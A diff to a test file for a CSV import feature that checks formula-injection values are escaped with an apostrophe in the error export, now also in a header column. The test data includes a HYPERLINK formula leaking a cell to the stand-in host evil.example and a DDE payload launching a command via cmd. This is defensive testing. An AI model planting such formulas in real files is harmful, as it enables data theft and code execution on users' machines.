@@ -156,10 +156,11 @@ describe.each(ENGINES)('bad import input on %s', (engine) => {
     expect((await stored('F/3'))[0]).toBeDefined();
 
     const injection = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    // An extra column headed by a formula: no column of ours, but the error export shows the file's headers.
     const csv = csvOf([
-      header,
-      saleRow({ documentNumber: 'F/4', counterpartyName: injection }),
-      saleRow({ documentNumber: 'F/5', description: '+cmd|" /C calc"!A0', taxable: '1.234' }),
+      [...header, injection],
+      [...saleRow({ documentNumber: 'F/4', counterpartyName: injection }), ''],
+      [...saleRow({ documentNumber: 'F/5', description: '+cmd|" /C calc"!A0', taxable: '1.234' }), ''],
     ]);
     const second = await importFile(h, token, 'injection.csv', csv);
     expect(second.progress.status).toBe('Failed');
@@ -169,5 +170,6 @@ describe.each(ENGINES)('bad import input on %s', (engine) => {
     expect(exported[1]?.[nameAt]).toBe(`'${injection}`);
     expect(exported[2]?.[descriptionAt]).toBe(`'+cmd|" /C calc"!A0`);
     expect(exported[1]?.at(-1)).toContain('IMP0015');
+    expect(exported[0]?.at(-2)).toBe(`'${injection}`);
   });
 });
